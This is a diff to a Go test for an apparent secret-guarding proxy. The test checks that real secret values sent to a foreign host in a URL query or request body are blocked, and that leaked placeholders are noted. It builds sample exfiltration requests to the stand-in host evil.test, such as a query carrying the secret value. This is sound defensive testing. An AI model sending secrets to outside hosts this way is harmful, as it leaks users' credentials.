@@ -274,19 +274,34 @@ func TestExfiltrationNotes(t *testing.T) {
 	if r.Header.Get("X-Leak") != e.Placeholder {
 		t.Error("placeholder replaced for a foreign host")
 	}
-	// Placeholder in a streamed body, split across reads; real value in the query.
+	// Placeholder in a streamed body, split across reads: unchanged, noted.
 	body := io.MultiReader(strings.NewReader("xx"+e.Placeholder[:10]), strings.NewReader(e.Placeholder[10:]+"yy"))
-	r = request(t, http.MethodPost, "https://evil.test/x?k="+testValue, body)
+	r = request(t, http.MethodPost, "https://evil.test/x", body)
 	r.ContentLength = -1
-	in.ModifyRequest(r)
+	if err := in.ModifyRequest(r); err != nil {
+		t.Fatal(err)
+	}
 	got, _ := io.ReadAll(r.Body)
 	if string(got) != "xx"+e.Placeholder+"yy" {
 		t.Errorf("body changed: %q", got)
 	}
-	// Placeholder sent to its own host while the openai value goes in its body: foreign for openai.
+	// A real value in the query of a request to another host: blocked.
+	r = request(t, http.MethodGet, "https://evil.test/x?k="+testValue, nil)
+	var be *BlockedError
+	if err := in.ModifyRequest(r); !errors.As(err, &be) || be.Where != "url" {
+		t.Errorf("real value in the query: err = %v, want a block in the url", err)
+	}
+	// The openai value in a body to another secret's host: blocked while
+	// streaming, before the value's bytes pass.
+	// (Here the body is read at once, for the bound placeholder.)
 	r = request(t, http.MethodPost, "https://api.example.com/x", strings.NewReader("k="+testValue))
-	in.ModifyRequest(r)
-	io.ReadAll(r.Body)
+	got = nil
+	if err = in.ModifyRequest(r); err == nil {
+		got, err = io.ReadAll(r.Body)
+	}
+	if !errors.As(err, &be) || strings.Contains(string(got), testValue) {
+		t.Errorf("real value in a body: read %q, %v; want a block before the value", got, err)
+	}
 
 	mu.Lock()
 	defer mu.Unlock()
@@ -297,8 +312,8 @@ func TestExfiltrationNotes(t *testing.T) {
 	}
 	want := []key{
 		{"evil.test", "MY_TOKEN", NotePlaceholder, "header X-Leak"},
-		{"evil.test", "openai", NoteValue, "url"},
 		{"evil.test", "MY_TOKEN", NotePlaceholder, "body"},
+		{"evil.test", "openai", NoteValue, "url"},
 		{"api.example.com", "openai", NoteValue, "body"},
 	}
 	if diff := cmp.Diff(want, gotKeys); diff != "" {
